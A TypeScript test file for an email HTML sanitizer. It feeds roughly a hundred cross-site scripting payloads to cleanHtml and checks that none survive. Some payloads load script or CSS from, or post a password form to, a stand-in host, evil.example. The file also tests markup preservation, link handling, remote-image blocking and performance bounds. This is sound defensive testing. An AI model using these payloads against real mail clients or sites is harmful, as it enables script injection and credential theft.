import { expect, test } from 'vitest';
import { cleanHtml, HTML_LENGTH } from './clean-html.ts';
import { readHtml } from './read-html.ts';

const clean = (html: string): string => cleanHtml(html, { remoteImages: true }).html;

/** What has been used against mail programs and cleaners of HTML, each way once. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script\x0c>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror\x0b=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/x 1x, javascript:alert(1) 2x">',
  '<img src="cid:x&quot; onerror=&quot;alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
  '<a href="https://x.example/&quot;onmouseover=alert(1)&quot;">x</a>',
  '<base href="javascript:alert(1)//">',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1)">',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="color:red;&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
  '<div style="@import url(https://evil.example/x)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input type=password name=p><input type=submit></form>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<input onfocus=alert(1) autofocus>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="https://evil.example/x">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/html" data="https://evil.example"></object>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<p title=\'" onmouseover="alert(1)\'>x</p>',
  '<plaintext><script>alert(1)</script>',
  '<select><plaintext></select><img src=x onerror=alert(1)>',
  '<select><style></select><script>alert(1)</script>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<style></style\t><img src=x onerror=alert(1)></style>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) />',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
  '<table background="javascript:alert(1)"><tr><td>x</table>',
  '<table><td background="https://evil.example/x">x</table>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1)></video>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<xmp><script>alert(1)</script></xmp>',
  '<xss onpointerover=alert(1)>x</xss>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>--!>',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '</br/onclick=alert(1)><img src=x onerror=alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href=https://x.example/?<script>alert(1)</script>>x',
  '<b/style=x:expression(alert(1))>x',
  '<div\u00a0onclick=alert(1)>x</div>',
  '<ſcript>alert(1)</ſcript>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

const HARMLESS_ATTRIBUTES =
  /^(?:align|alt|bgcolor|border|cell(?:padding|spacing)|color|colspan|dir|face|height|href|hspace|lang|nowrap|rel|rowspan|size|span|src|start|style|target|title|type|valign|value|vspace|width)$/;

/** All that could do anything in what was cleaned, as a browser would cut it. */
function dangers(html: string): string[] {
  const found: string[] = [];
  readHtml(html, {
    opened(element, attributes) {
      if (/script|style|iframe|object|embed|form|input|svg|math|meta|link|base/.test(element)) {
        found.push(element);
      }
      for (const [name, value] of attributes) {
        if (!HARMLESS_ATTRIBUTES.test(name)) found.push(`${element} ${name}`);
        if (name === 'style' && /url|expression|@|\\|\/\*|position|behavior/i.test(value)) {
          found.push(value);
        }
        if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(value);
        if (name === 'src' && !/^(?:https?:\/\/|cid:|data:image\/(?!svg))/i.test(value)) {
          found.push(value);
        }
      }
    },
    closed: () => undefined,
    text: () => undefined,
  });
  return found;
}

test.each(ATTACKS)('cleanHtml() takes the sting out of %s', (attack) => {
  const once = clean(attack);
  expect(dangers(once)).toEqual([]);
  expect(clean(once)).toBe(once);
  // also behind whatever was left open before it
  const wrapped = clean(`<table><td><p title="${attack}">${attack}<div style='${attack}'>`);
  expect(dangers(wrapped)).toEqual([]);
});

test('cleanHtml() keeps what a letter is made of', () => {
  const letter =
    '<div bgcolor="#ffffff" style="color:#222;font-family:Arial, sans-serif"><p>Hello,<br>a &lt; b</p>' +
    '<ul><li>one</li><li>two</li></ul><table width="600" cellpadding="0"><tr><td>x</td></tr></table>' +
    '<blockquote type="cite">before</blockquote></div>';
  expect(clean(letter)).toBe(letter);
});

test('cleanHtml() closes what browsers close, and what nobody closed', () => {
  expect(clean('<p>a<p>b<ul><li>1<li>2</ul><table><tr><td>x<td>y<tr><td>z</table>')).toBe(
    '<p>a</p><p>b</p><ul><li>1</li><li>2</li></ul><table><tr><td>x</td><td>y</td></tr><tr><td>z</td></tr></table>',
  );
  expect(clean('</div>a<b><i>b</b>c')).toBe('a<b><i>b</i></b>c');
});

test('cleanHtml() loses no text behind what nobody closed', () => {
  expect(clean('<table><tr><td><object><p>x</p></td><td>text</td></tr></table>')).toBe(
    '<table><tr><td></td><td>text</td></tr></table>',
  );
  expect(clean('<div><svg><div>x</div></div>text')).toBe('<div></div>text');
  expect(clean('<html><head><title>x</title><style>y</style><body>text')).toBe('<div>text</div>');
  expect(clean('<div><svg><svg></svg><p>x</p></svg>text</div>')).toBe('<div>text</div>');
});

test('cleanHtml() has links open beside the page and tell nothing', () => {
  expect(clean('<a href="https://x.example/?a=1&b=2" target=_top>x</a>')).toBe(
    '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
  );
  expect(clean('<a href="#top">x</a><a href="/y">y</a>')).toBe('<a>x</a><a>y</a>');
});

test('cleanHtml() leaves images of other servers out until somebody asks', () => {
  const html =
    '<img src="//t.example/p.gif" width="1"><img src="cid:logo%40x"><img src="data:image/png;base64,AAAA">';
  expect(cleanHtml(html, { remoteImages: false })).toEqual({
    html: '<img width="1"><img src="cid:logo%40x"><img src="data:image/png;base64,AAAA">',
    hasRemote: true,
    contentIds: ['logo@x'],
  });
  expect(cleanHtml(html, { remoteImages: true }).html).toContain('src="https://t.example/p.gif"');
});

test('cleanHtml() reads no more than its bound and flattens what is too deep', () => {
  expect(clean(`${'<div>'.repeat(200)}x`)).toBe(`${'<div>'.repeat(100)}x${'</div>'.repeat(100)}`);
  expect(clean('x'.repeat(HTML_LENGTH + 10))).toHaveLength(HTML_LENGTH);
});

test('cleanHtml() takes a time that grows as its input does', () => {
  const time = (length: number): number => {
    const hostile = '<div><p>'.repeat(length / 8);
    const begun = performance.now();
    clean(hostile);
    return performance.now() - begun;
  };
  time(40_000);
  // four times as much takes some four times as long; were it squared, sixteen times
  expect(time(400_000) / Math.max(time(100_000), 5)).toBeLessThan(12);
});
